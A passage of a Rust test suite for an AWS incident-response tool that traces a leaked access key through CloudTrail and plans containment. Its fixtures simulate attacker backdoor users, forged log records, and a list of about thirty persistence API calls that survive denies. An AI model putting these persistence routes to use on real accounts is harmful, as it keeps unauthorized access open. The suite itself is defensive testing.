            s.function_change(&leaked, T0 + 300, "UpdateFunctionCode20150331v2", "backdoor", None);
            let d = write(&s, &[]);
            assert_eq!(plan(&d, LEAKED, "strict")["summary"]["routes_not_followed"], Value::Null);
            let other = format!("arn:aws:iam::{MAIN}:role/OtherRole");
            let moved = "UpdateFunctionConfiguration20150331v2";
            s.function_change(&leaked, T0 + 310, moved, "backdoor", Some(&other));
            let d = write(&s, &[]);
            let p = plan_with_routes(&d, LEAKED, 1);
            assert_one_route(&review_reasons(&p), moved, "function backdoor");
            continue;
        }
        let p = plan_with_routes(&d, LEAKED, 2);
        let reviews = review_reasons(&p);
        assert_one_route(&reviews, "CreateFunction20150331", "function backdoor");
        assert_one_route(&reviews, "RunInstances", "ec2 instances");
        assert!(reviews.iter().any(|r| r.contains(instance)), "{reviews:?}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{v}");
    }
}

/// Credentials other services hand out, and a way into an instance, that a tainted key set
/// up: a Cognito identity pool opened to unauthenticated identities, a user pool's user made,
/// an IoT certificate (which buys a role alias's sessions), an SSH key of a Transfer Family
/// user (who acts with its role), an EC2 serial console key, and an Identity Center group
/// membership made through the directory. No deny or deactivation of the plan ends any of
/// them, so each is a route not followed (a review found each with plan exit 0 and verify OK).
/// The same calls failed, or read-only ones, are not.
#[test]
fn credentials_other_services_hand_out_are_routes_not_followed() {
    let calls: [(&str, &str, Value); 31] = [
        (
            "cognito-identity",
            "UpdateIdentityPool",
            json!({"identityPoolId": "us-east-1:1a2b3c4d-5e6f-7a8b-9c0d-1e2f3a4b5c6d", "allowUnauthenticatedIdentities": true}),
        ),
        (
            "cognito-idp",
            "AdminCreateUser",
            json!({"userPoolId": "us-east-1_EXAMPLE", "username": "backdoor"}),
        ),
        ("iot", "CreateKeysAndCertificate", json!({"setAsActive": true})),
        (
            "transfer",
            "ImportSshPublicKey",
            json!({"serverId": "s-01234567890abcdef", "userName": "sftp-user", "sshPublicKeyBody": "ssh-ed25519 AAAA"}),
        ),
        (
            "ec2-instance-connect",
            "SendSerialConsoleSSHPublicKey",
            json!({"instanceId": "i-0f0e0d0c0b0a09080", "sSHPublicKey": "ssh-ed25519 AAAA"}),
        ),
        ("sso-directory", "AddMemberToGroup", json!({"groupId": "g-1234", "memberId": "u-5678"})),
        // Found by a review of the first list.
        ("iot", "RegisterCACertificate", json!({"allowAutoRegistration": true})),
        (
            "rolesanywhere",
            "EnableTrustAnchor",
            json!({"trustAnchorId": "a1b2c3d4-5678-90ab-cdef-EXAMPLE11111"}),
        ),
        ("cognito-idp", "UpdateUserPool", json!({"userPoolId": "us-east-1_EXAMPLE"})),
        ("eks", "AssociateIdentityProviderConfig", json!({"clusterName": "prod"})),
        (
            "appstream",
            "CreateStreamingURL",
            json!({"stackName": "s", "fleetName": "f", "userId": "u"}),
        ),
        ("sso-directory", "CreateBearerToken", json!({"directoryId": "d-1234567890"})),
        // And by a review of console and federated sign-ins: an OIDC provider made (again)
        // under a URL roles trust, Identity Center's identity source re-pointed.
        (
            "iam",
            "CreateOpenIDConnectProvider",
            json!({"url": "https://auth.example.com", "clientIDList": ["attacker"]}),
        ),
        (
            "sso-directory",
            "UpdateExternalIdPConfigurationForDirectory",
            json!({"directoryId": "d-1234567890"}),
        ),
        ("sso", "AssociateDirectory", json!({"directoryId": "d-1234567890"})),
        // And by a review of Organizations, Identity Center and Roles Anywhere: an outside
        // account let in, made a delegated administrator or made; a service given the
        // organization's access; a private CA's certificate or issuing right; a revocation list
        // or profile changed; a permission set's restriction removed; a token issuer trusted.
        (
            "organizations",
            "RegisterDelegatedAdministrator",
            json!({"accountId": "123456789012", "servicePrincipal": "sso.amazonaws.com"}),
        ),
        (
            "organizations",
            "InviteAccountToOrganization",
            json!({"target": {"id": "123456789012", "type": "ACCOUNT"}}),
        ),
        ("organizations", "CreateAccount", json!({"email": "x@example.net", "accountName": "x"})),
        (
            "organizations",
            "EnableAWSServiceAccess",
            json!({"servicePrincipal": "ram.amazonaws.com"}),
        ),
        (
            "acm-pca",
            "IssueCertificate",
            json!({"certificateAuthorityArn": format!("arn:aws:acm-pca:us-east-1:{MAIN}:certificate-authority/11111111-2222-3333-4444-555555555555"), "validity": {"value": 365, "type": "DAYS"}}),
        ),
        (
            "acm-pca",
            "PutPolicy",
            json!({"resourceArn": "arn:aws:acm-pca:us-east-1:111122223333:certificate-authority/1"}),
        ),
        ("rolesanywhere", "DeleteCrl", json!({"crlId": "11111111-2222-3333-4444-555555555555"})),
        (
            "rolesanywhere",
            "UpdateProfile",
            json!({"profileId": "11111111-2222-3333-4444-555555555555"}),
        ),
        (
            "sso",
            "DeleteInlinePolicyFromPermissionSet",
            json!({"instanceArn": "arn:aws:sso:::instance/ssoins-1111111111111111", "permissionSetArn": "arn:aws:sso:::permissionSet/ssoins-1111111111111111/ps-1111111111111111"}),
        ),
        ("sso", "CreateTrustedTokenIssuer", json!({"name": "outside"})),
        // And by a review of those, and one of resource policies.
        ("rolesanywhere", "UpdateCrl", json!({"crlId": "11111111-2222-3333-4444-555555555555"})),
        ("acm-pca", "CreateCertificateAuthority", json!({"certificateAuthorityType": "ROOT"})),
        ("organizations", "AcceptHandshake", json!({"handshakeId": "h-examplehandshakeid111"})),
        ("sso", "CreateApplicationAssignment", json!({"principalId": "u-1"})),
        (
            "s3",
            "CreateAccessGrant",
            json!({"grantee": {"granteeType": "IAM", "granteeIdentifier": "arn:aws:iam::123456789012:user/partner"}}),
        ),
        ("ecr", "PutRegistryPolicy", json!({"policyText": "{}"})),
    ];
    for failed in [false, true] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        for (k, (service, name, request)) in calls.iter().enumerate() {
            let source = format!("{service}.amazonaws.com");
            let at = T0 + 60 + k as i64;
            let error = failed.then_some("AccessDenied");
            s.call_full(
                &leaked,
                at,
                &source,
                name,
                request.clone(),
                Value::Null,
                error,
                "aws-cli/2.15.0",
            );
            s.call(&leaked, at + 100, &source, &format!("Describe{name}"), Value::Null);
        }
        let d = write(&s, &[]);
        if failed {
            // Only the key's use of EKS, refused or not (signing in to a cluster needs no EKS
            // permission): the refused calls open no route.
            let p = plan_with_routes(&d, LEAKED, 1);
            let routes: Vec<_> =
                review_reasons(&p).into_iter().filter(|r| r.contains("NOT FOLLOWED")).collect();
            assert!(routes.len() == 1 && routes[0].contains("used Amazon EKS"), "{routes:?}");
            continue;
        }
        // And the key's own use of EKS (`AssociateIdentityProviderConfig`): what it did inside
        // the cluster is not in CloudTrail.
        let p = plan_with_routes(&d, LEAKED, calls.len() as u64 + 1);
        let reviews = review_reasons(&p);
        for (_, name, _) in &calls {
            let n = reviews
                .iter()
                .filter(|r| r.starts_with(&format!("{name} ")) && r.contains("NOT FOLLOWED"))
                .count();
            assert_eq!(n, 1, "{name}: {reviews:?}");
        }
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{v}");
    }
}

/// Two leaked keys of one incident, planned one at a time (the second found after the first
/// plan was applied): each key's session of Admin gets its own surgical deny. `PutRolePolicy`
/// replaces a policy of the same name, so under one fixed name the second plan's put took away
/// the first one's deny, while each plan's `verify` said OK (a review). Each deny's name now
/// carries a digest of its document: the two plans' names differ, and a plan made again from
/// the same evidence writes the same name (it replaces only its own deny).
#[test]
fn two_plans_for_two_keys_never_share_a_deny_name() {
    let mut s = Scenario::new();
    let first = s.user_key(MAIN, "ci", LEAKED);
    let second = s.user_key(MAIN, "deployer", "AKIAI44QH8DHBEXAMPLE");
    let role = format!("arn:aws:iam::{MAIN}:role/Admin");
    let s1 = s.assume_role(&first, T0, &role, "s1", 12 * 3600);
    let s2 = s.assume_role(&second, T0 + 60, &role, "s2", 12 * 3600);
    s.call(&s1, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&s2, T0 + 180, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let d = write(&s, &[]);
    for strategy in ["surgical", "strict"] {
        let name = |key: &str| {
            let p = plan(&d, key, strategy);
            let puts = actions(&p, "put_role_policy");
            assert_eq!(puts.len(), 1, "{p:#}");
            let name = puts[0]["policy_name"].as_str().unwrap().to_string();
            let cmd = puts[0]["command"].as_str().unwrap();
            assert!(cmd.contains(&format!("--policy-name {name} ")), "{cmd}");
            name
        };
        let (a, b) = (name(LEAKED), name("AKIAI44QH8DHBEXAMPLE"));
        let shape = if strategy == "surgical" {
            "TrailhoundRevokeTaintedSessions-"
        } else {
            "TrailhoundRevokeOlderSessions-"
        };
        assert!(a.starts_with(shape) && a.len() == shape.len() + 8, "{a}");
        if strategy == "surgical" {
            assert_ne!(a, b, "two surgical denies of other sessions share a name");
        } else {
            // The same deny (every session of Admin issued before the cut-off): one name.
            assert_eq!(a, b);
        }
        assert_eq!(a, name(LEAKED), "a plan made again names its deny the same");
    }
}

/// A session of the leaked key's chain that used Amazon EKS signs in to clusters with a
/// presigned `sts:GetCallerIdentity`, which no deny stops (F22): while it may be valid the
/// plan's deny does not keep it out of the clusters that map its role, so the plan exits 1
/// with a review item and `verify` fails (a review found it counted covered, exit 0 and OK).
/// The same session expired by the cut-off, or one that never called EKS, changes nothing.
#[test]
fn a_live_session_that_used_eks_is_not_cut_by_a_deny() {
    let role = format!("arn:aws:iam::{MAIN}:role/Admin");
    // An instance the leaked key launched takes the role's next sessions by itself (F21): its
    // session that used EKS had expired by the cut-off, and the next one signs in the same way
    // (a review of the first version, which looked at the session's own expiry alone).
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci", LEAKED);
    s.run_instances(&leaked, T0, "AdminProfile", &["i-0a1b2c3d4e5f60718"]);
    let inst = s.instance_session(&role, "i-0a1b2c3d4e5f60718", T0 + 60, 1800);
    s.call(&inst, T0 + 90, "eks.amazonaws.com", "DescribeCluster", json!({"name": "prod"}));
    let d = write(&s, &[]);
    let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
    assert_eq!(code, 1, "{err}");
    assert_eq!(p["summary"]["eks_sessions"], 1, "{}", p["summary"]);
    assert!(review_reasons(&p).iter().any(|r| r.contains("instance or function stops")), "{p}");
    for (life, eks) in [(12 * 3600, true), (1800, true), (12 * 3600, false)] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci", LEAKED);
        let admin = s.assume_role(&leaked, T0, &role, "s1", life);
        s.call(&admin, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
        if eks {
            let err = Some("AccessDenied");
            let req = json!({"name": "prod"});
            s.call_full(
                &admin,
                T0 + 90,
                "eks.amazonaws.com",
                "DescribeCluster",
                req,
                Value::Null,
                err,
                "aws-cli/2.15.0",
            );
        }
        let d = write(&s, &[]);
        let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        // Expired by the cut-off, its EKS call refused: nothing to cut, no route (a call that
        // succeeded would be one: `an_expired_session_or_a_key_that_used_eks_…`).
        if !(eks && life > 3600) {
            assert_eq!(code, 0, "{err}");
            assert!(p["summary"].get("eks_sessions").is_none(), "{}", p["summary"]);
            assert_eq!(verify(&d, &p).0, 0);
            continue;
        }
        assert_eq!(code, 1, "{err}");
        assert_eq!(p["summary"]["eks_sessions"], 1, "{}", p["summary"]);
        let reviews = review_reasons(&p);
        assert!(
            reviews.iter().any(|r| r.contains(&admin.node_id()) && r.contains("F22")),
            "{reviews:?}"
        );
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{v}");
        assert!(v.to_string().contains("NOT CUT: session"), "{v}");
    }
}

/// The leaked key opens AdminRole's trust to another account. A user of that account, named
/// after a clean console user of this one (`mallory`, signed in an hour before), switches into
/// AdminRole in the console; its own sign-in and the switch are logged in its account only,
/// and its calls here show no address (`AWS Internal`). The graph links the switched session
/// to the clean console session by the name alone (an inferred `SwitchRole` link), which made
/// it the clean user's and exempt from the trust-policy rule: untainted, no deny, exit 0 and
/// verify OK (a review). A link guessed from a name is no evidence of who made the session:
/// it counts as from outside, so the trust rule taints it and AdminRole is denied.
#[test]
fn a_switch_guessed_from_a_clean_users_name_does_not_exempt_a_role_whose_trust_the_key_set() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let trust = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow",
        "Principal": {"AWS": format!("arn:aws:iam::{THIRD}:root")}, "Action": "sts:AssumeRole"}]});
    let request = json!({"roleName": "AdminRole", "policyDocument": trust.to_string()});
    s.call(&leaked, T0 + 10, "iam.amazonaws.com", "UpdateAssumeRolePolicy", request);
    let clean = s.console_login(MAIN, T0 - 3600, "mallory");
    s.call(&clean, T0 - 3540, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let theirs = s.console_login(THIRD, T0 + 1100, "mallory");
    let admin = s.switch_role(&theirs, T0 + 1200, &role);
    s.call(&admin, T0 + 1260, "iam.amazonaws.com", "ListUsers", Value::Null);
    s.drop_records(|account, _| account == THIRD);
    s.edit_records(|_, r| {
        if r["userIdentity"]["accessKeyId"] == admin.key.as_str() {
            r["sourceIPAddress"] = Value::from("AWS Internal");
        }
    });
    let d = write(&s, &[]);
    let tainted = tainted_ids(&d, LEAKED);
    assert!(tainted.contains(&admin.node_id()), "{}: {tainted:?}", admin.node_id());
    assert!(!tainted.contains(&clean.node_id()), "{tainted:?}");
    let p = plan(&d, LEAKED, "strict");
    assert!(principals(&p, "put_role_policy").contains(&role), "{p}");
    assert_eq!(verify(&d, &p).0, 0);
}

/// The `sessions` tree folds a principal's sessions beyond `--collapse` into "… N more", but
/// never a live one: by position, the one live session of a role after eight expired ones was
/// folded away, although the plan covers it.
#[test]
fn the_sessions_tree_never_folds_a_live_session() {
    let d = TempDir::new().unwrap();
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
    let mut short = Vec::new();
    for i in 0..9 {
        short.push(s.assume_role(&leaked, T0 + 60 * i, &role, &format!("s{i}"), 900));
    }
    let live = s.assume_role(&leaked, T0 + 600, &role, "long", 43_200);
    s.call(&live, T0 + 700, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.write(&d.path().join("trail"), &[]).unwrap();
    // "Now" after the short sessions ended, while the long one lives.
    let o = bin()
        .env("SOURCE_DATE_EPOCH", (T0 + 3600).to_string())
        .args(["sessions", "--no-progress", "--key", LEAKED, "--collapse", "2"])
        .arg(d.path().join("trail"))
        .output()
        .unwrap();
    let tree = String::from_utf8(o.stdout).unwrap();
    assert_eq!(o.status.code(), Some(0), "{tree}");
    let line = tree.lines().find(|l| l.contains(&live.key)).unwrap_or_else(|| panic!("{tree}"));
    assert!(line.contains("LIVE until"), "{line}");
    assert!(tree.contains("… 7 more EXPIRED sessions of"), "the 9 expired, 2 shown: {tree}");
}

/// `sessions --principal` selects as `blast --principal` does: the taint from the principal's
/// credentials (the user the attacker made, its console session and what that assumed), and
/// a principal that matches nothing is a usage error (exit 2), not an empty tree.
#[test]
fn sessions_of_a_principal_follow_the_taint_as_blast_does() {
    let d = TempDir::new().unwrap();
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    s.create_user(&leaked, T0, "mallory");
    s.create_login_profile(&leaked, T0 + 60, "mallory");
    let console = s.console_login(MAIN, T0 + 120, "mallory");
    s.call(&console, T0 + 150, "s3.amazonaws.com", "ListBuckets", Value::Null);
    let role = format!("arn:aws:iam::{MAIN}:role/RoleC");
    let hop = s.assume_role(&console, T0 + 200, &role, "mal", 3600);
    s.call(&hop, T0 + 260, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.write(&d.path().join("trail"), &[]).unwrap();
    let ids = |v: &Value, list: &str| -> Vec<String> {
        let mut ids: Vec<String> = v[list]
            .as_array()
            .unwrap()
            .iter()
            .map(|n| n["id"].as_str().unwrap().to_string())
            .collect();
        ids.sort();
        ids
    };
    let user = format!("arn:aws:iam::{MAIN}:user/ci-deployer");
    let (code, sessions, err) = run(&["sessions", "--format", "json", "--principal", &user], &d);
    assert_eq!(code, 0, "{err}");
    let (code, blast, err) = run(&["blast", "--format", "json", "--principal", &user], &d);
    assert_eq!(code, 0, "{err}");
    let shown = ids(&sessions, "nodes");
    assert!(shown.contains(&hop.node_id()), "{shown:?}");
    assert_eq!(shown, ids(&blast, "credentials"));
    let nobody = format!("arn:aws:iam::{MAIN}:user/nobody");
    let (code, _, err) = run(&["sessions", "--principal", &nobody], &d);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("no credential in the evidence acts as this principal"), "{err}");
}

/// `--contain-reachable`: a role the leaked key used that the trail then shows deleted (and a
/// snapshot taken after rightly lacks) gets no deny, which IAM would refuse (NoSuchEntity)
/// and plan.sh would report as failed; the live key is still deactivated, and a role the
/// snapshot shows reachable still denied.
#[test]
fn a_used_role_the_trail_shows_deleted_gets_no_precautionary_deny() {
    let d = TempDir::new().unwrap();
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let temp = s.assume_role(&leaked, T0, &format!("arn:aws:iam::{MAIN}:role/temp"), "t", 900);
    s.call(&temp, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.call(&leaked, T0 + 1200, "iam.amazonaws.com", "DeleteRole", json!({"roleName": "temp"}));
    s.call(&leaked, T0 + 1500, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
    s.write(&d.path().join("trail"), &[]).unwrap();
    let allow = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole", "Resource": "*"}]});
    let trust = json!({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": format!("arn:aws:iam::{MAIN}:root")}, "Action": "sts:AssumeRole"}]});
    let snapshot = json!({
        "UserDetailList": [{"UserName": "ci-deployer", "Path": "/", "UserId": "AIDAEXAMPLECI0000001",
            "Arn": format!("arn:aws:iam::{MAIN}:user/ci-deployer"), "GroupList": [],
            "UserPolicyList": [{"PolicyName": "assume", "PolicyDocument": allow}], "AttachedManagedPolicies": []}],
        "GroupDetailList": [], "Policies": [], "IsTruncated": false,
        "RoleDetailList": [{"RoleName": "ops", "Path": "/", "RoleId": "AROAEXAMPLEOPS000001",
            "Arn": format!("arn:aws:iam::{MAIN}:role/ops"), "AssumeRolePolicyDocument": trust,
            "RolePolicyList": [], "AttachedManagedPolicies": []}],
    });
    let iam = d.path().join("iam.json");
    std::fs::write(&iam, snapshot.to_string()).unwrap();
    let cut = trailhound::time::fmt_iso(T0 + 1800);
    let args = ["plan", "--key", LEAKED, "--effective-at", &cut, "--contain-reachable", "--iam"];
    let (code, p, err) = run(&[&args[..], &[iam.to_str().unwrap()]].concat(), &d);
    assert_eq!(code, 0, "{err}");
    let denied: Vec<&str> = p["precautionary"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["type"] == "put_role_policy")
        .filter_map(|a| a["principal_arn"].as_str())
        .collect();
    assert_eq!(denied, [format!("arn:aws:iam::{MAIN}:role/ops")], "{}", p["precautionary"]);
    assert_eq!(deactivated(&p), [LEAKED]);
}

/// Two records of one `CreateAccessKey` (same eventID and second: a copy planted beside the
/// true one, before or after it) name two users of the key made. Before, the copy read first
/// named the key's user: the plan deactivated it under the planted name (IAM answers
/// NoSuchEntity, the key stays active) and verify said OK. Now neither is taken: the
/// deactivation is a review item naming both users, and verify fails the plan (the key left
/// active) unless it deactivates the key under each of them (a hand-edited plan).
#[test]
fn a_key_whose_making_records_name_two_users_is_left_to_a_review_and_fails_verify() {
    let one = |planted: Option<bool>| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let made = s.create_access_key(&leaked, T0 + 60, Some("ops-admin"));
        s.call(&made, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
        if let Some(before) = planted {
            s.copy_records(before, |r| {
                let making = r["eventName"] == "CreateAccessKey";
                if making {
                    r["requestParameters"]["userName"] = json!("decoy");
                    r["responseElements"]["accessKey"]["userName"] = json!("decoy");
                }
                making
            });
        }
        let key = made.key.clone();
        (write(&s, &[]), key)
    };
    // Without the copy: deactivated under its user.
    let (d, key) = one(None);
    let p = plan(&d, LEAKED, "strict");
    let under: Vec<_> = actions(&p, "deactivate_access_key")
        .iter()
        .map(|a| (a["access_key_id"].as_str().unwrap(), a["user_name"].as_str().unwrap()))
        .collect();
    assert!(under.contains(&(key.as_str(), "ops-admin")), "{under:?}");
    assert_eq!(verify(&d, &p).0, 0);

    let mut plans = Vec::new();
    for before in [true, false] {
        let (d, key) = one(Some(before));
        let (code, p, err) = run(&["plan", "--key", LEAKED, "--effective-at", CUT], &d);
        assert_eq!(code, 1, "{before}: {err}");
        assert!(!deactivated(&p).contains(&key.as_str()), "{before}: {p}");
        let reasons = review_reasons(&p);
        let r = reasons.iter().find(|r| r.contains(&key)).expect("a review of the key");
        assert!(r.contains("ops-admin") && r.contains("decoy"), "{r}");
        let (code, v) = verify(&d, &p);
        assert_eq!(code, 1, "{v}");
        assert!(v["keys_left_active"].as_array().unwrap().contains(&json!(key)), "{v}");
        // Deactivated under both names, one of which is its user: cut.
        let mut edited = p.clone();
        let acts = edited["actions"].as_array_mut().unwrap();
        for user in ["ops-admin", "decoy"] {
            let mut a = acts
                .iter()
                .find(|a| a["type"] == "deactivate_access_key" && a["access_key_id"] == LEAKED)
                .unwrap()
                .clone();
            let cmd = format!(
                "aws iam update-access-key --user-name {user} --access-key-id {key} --status Inactive"
            );
            a["user_name"] = json!(user);
            a["access_key_id"] = json!(key);
            a["command"] = json!(cmd);
            a["order"] = json!(acts.len() + 1);
            acts.push(a);
        }
        let (code, v) = verify(&d, &edited);
        assert!(v["keys_deactivated"].as_array().unwrap().contains(&json!(key)), "{v}");
        assert!(!v["keys_left_active"].as_array().unwrap().contains(&json!(key)), "{v}");
        assert_eq!(code, 0, "{v}");
        plans.push(serde_json::to_string(&p["actions"]).unwrap());
    }
    assert_eq!(plans[0], plans[1], "the copies' order decides nothing");
}

/// A `DeleteUser` of the attacker's user that IAM refused (DeleteConflict: the user still had
/// its console password), and a copy of it (same eventID and second) without the error,
/// planted before or after it. Before, the user was taken as deleted in either order: the
/// plan dropped its deny-all, the password's removal and the user's deletion, and verify said
/// OK with the password the attacker set still there. Now the deletion is not believed (the
/// user is still contained), and verify fails a plan that neither denies the attacker's user
/// everything nor removes it, whatever the plan says of it.
#[test]
fn a_deletion_one_copy_says_failed_is_not_believed_and_verify_wants_the_attackers_user_cut() {
    let build = |planted: Option<bool>| {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        s.create_user(&leaked, T0, "backdoor");
        s.create_login_profile(&leaked, T0 + 10, "backdoor");
        s.call_full(
            &leaked,
            T0 + 20,
            "iam.amazonaws.com",
            "DeleteUser",
            json!({"userName": "backdoor"}),
            Value::Null,
            Some("DeleteConflictException"),
            "aws-cli/2.15.0",
        );
        if let Some(before) = planted {
            s.copy_records(before, |r| {
                let del = r["eventName"] == "DeleteUser";
                if del {
                    let o = r.as_object_mut().unwrap();
                    o.remove("errorCode");
                    o.remove("errorMessage");
                }
                del
            });
        }
        write(&s, &[])
    };
    let backdoor = format!("arn:aws:iam::{MAIN}:user/backdoor");
    let mut honest = None;
    for planted in [None, Some(true), Some(false)] {
        let d = build(planted);
        let p = plan(&d, LEAKED, "strict");
        assert!(principals(&p, "put_user_policy").contains(&backdoor), "{planted:?}: {p:#}");
        assert_eq!(actions(&p, "delete_login_profile").len(), 1, "{planted:?}: {p:#}");
        assert_eq!(actions(&p, "delete_user").len(), 1, "{planted:?}: {p:#}");
        assert!(p["attacker_users"][0].get("deleted").is_none(), "{planted:?}: {p:#}");
        assert_eq!(verify(&d, &p).0, 0, "{planted:?}");
        honest.get_or_insert((d, p));
    }
    // The honest trail's plan without the user's deny-all and removal: verify fails it.
    let (d, mut p) = honest.unwrap();
    p["actions"].as_array_mut().unwrap().retain(|a| {
        let user = a["user_name"] == "backdoor" || a["principal_arn"] == json!(backdoor);
        !(user && a["type"] != "deactivate_access_key")
    });
    let (code, v) = verify(&d, &p);
    assert_eq!(code, 1, "{v:#}");
    let notes = v["notes"].to_string();
    assert!(notes.contains("NOT CUT: user backdoor"), "{notes}");
}

/// The attacker's `CreateUser backdoor` and a copy of it (same eventID and second, planted
/// before or after it) naming `alice`, a user who was there before. Before, both users were
/// the attacker's made users in either order: the plan denied `alice` everything and deleted
/// her, and verify said OK with no collateral. Now neither is deleted (a deletion cannot be
/// undone): both are denied everything and left to a review that names the two users.
#[test]
fn a_user_a_copy_of_the_creation_names_is_denied_but_not_deleted() {
    let mut plans = Vec::new();
    for before in [true, false] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
        s.call(&alice, T0 - 3600, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.create_user(&leaked, T0, "backdoor");
        s.copy_records(before, |r| {
            let making = r["eventName"] == "CreateUser";
            if making {
                r["requestParameters"]["userName"] = json!("alice");
                r["responseElements"]["user"]["userName"] = json!("alice");
                r["responseElements"]["user"]["arn"] =
                    json!(format!("arn:aws:iam::{MAIN}:user/alice"));
            }
            making
        });
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "strict");
        assert!(actions(&p, "delete_user").is_empty(), "{before}: {p:#}");
        let denied = principals(&p, "put_user_policy");
        assert!(denied.contains(&format!("arn:aws:iam::{MAIN}:user/backdoor")), "{denied:?}");
        let reasons = review_reasons(&p).join("\n");
        for user in ["backdoor", "alice"] {
            let r = format!("user {user} may not be one the attacker made");
            assert!(
                reasons.contains(&r) && reasons.contains("copies of its CreateUser"),
                "{reasons}"
            );
        }
        assert_eq!(verify(&d, &p).0, 0);
        plans.push(serde_json::to_string(&p["actions"]).unwrap());
    }
    assert_eq!(plans[0], plans[1], "the copies' order decides nothing");
}

/// A `CreateUser alice` by the leaked key (a record of its own, forged), where `alice`'s key
/// was in use an hour before: IAM makes no user whose name is taken, so she may be a user
/// who was there before. Before, the plan deleted her (verify OK). Now she is denied
/// everything and left to a review, not deleted; a user the attacker really made (no earlier
/// use) is still deleted.
#[test]
fn a_user_in_use_before_its_creation_is_denied_but_not_deleted() {
    let mut s = Scenario::new();
    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
    let alice = s.user_key(MAIN, "alice", "AKIAI44QH8DHBEXAMPLE");
    s.call(&alice, T0 - 3600, "s3.amazonaws.com", "ListBuckets", Value::Null);
    s.create_user(&leaked, T0, "alice");
    s.create_user(&leaked, T0 + 10, "backdoor");
    let d = write(&s, &[]);
    let p = plan(&d, LEAKED, "strict");
    let deleted: Vec<_> =
        actions(&p, "delete_user").iter().map(|a| a["user_name"].clone()).collect();
    assert_eq!(deleted, [json!("backdoor")], "{p:#}");
    let denied = principals(&p, "put_user_policy");
    assert!(denied.contains(&format!("arn:aws:iam::{MAIN}:user/alice")), "{denied:?}");
    let reasons = review_reasons(&p).join("\n");
    assert!(
        reasons.contains("user alice may not be one the attacker made")
            && reasons.contains("AKIAI44QH8DHBEXAMPLE was in use at"),
        "{reasons}"
    );
    assert_eq!(verify(&d, &p).0, 0);
}

/// A copy of a role session's first call (same eventID and second) whose `userIdentity`
/// names another role (`AuditRole`) than the `AssumeRole` that issued the session, planted
/// in front of the true record or after it. Before, read first it moved the session's deny to
/// `AuditRole` (verify failed that plan, but the plan followed the file order). A role is
/// never renamed: a call naming another role than the issuing call gives the session no new
/// role, only the path of its own.
#[test]
fn a_call_naming_another_role_than_the_sessions_issuing_call_does_not_move_its_deny() {
    let mut plans = Vec::new();
    for before in [true, false] {
        let mut s = Scenario::new();
        let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
        let role = format!("arn:aws:iam::{MAIN}:role/AdminRole");
        let session = s.assume_role(&leaked, T0, &role, "ci", 12 * 3600);
        s.call(&session, T0 + 60, "s3.amazonaws.com", "ListBuckets", Value::Null);
        s.copy_records(before, |r| {
            let first = r["eventName"] == "ListBuckets";
            if first {
                let who = r["userIdentity"].to_string().replace("AdminRole", "AuditRole");
                r["userIdentity"] = serde_json::from_str(&who).unwrap();
            }
            first
        });
        let d = write(&s, &[]);
        let p = plan(&d, LEAKED, "strict");
        let denied = principals(&p, "put_role_policy");
        assert_eq!(denied, std::slice::from_ref(&role), "{before}: {p:#}");
        assert_eq!(verify(&d, &p).0, 0, "{before}");
        plans.push(serde_json::to_string(&p["actions"]).unwrap());
    }
    assert_eq!(plans[0], plans[1], "the copies' order decides nothing");
}

/// The attacker makes a key for `alice` (a user who was there before); a planted copy of the
/// `CreateAccessKey` names `backdoor`, the attacker's own user (denied everything by the
/// plan), or the same user in another account. The deny-all on `backdoor` does not reach a
/// key of `alice`'s, and a user of another account is another user: the key is left to a
/// review and verify fails the plan in either order (before, verify counted the key
/// "denied" by backdoor's deny-all, or the plan deactivated it in the other account).
#[test]
fn a_key_another_record_gives_to_a_denied_user_or_another_account_is_not_cut_by_that() {
    for (other, account) in [("backdoor", MAIN), ("alice", THIRD)] {
        for before in [true, false] {
            let mut s = Scenario::new();
            let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
            s.create_user(&leaked, T0, "backdoor");
            s.create_login_profile(&leaked, T0 + 10, "backdoor");
            let made = s.create_access_key(&leaked, T0 + 60, Some("alice"));
            s.call(&made, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
            s.copy_records(before, |r| {
                let making = r["eventName"] == "CreateAccessKey";
                if making {
                    r["requestParameters"]["userName"] = json!(other);
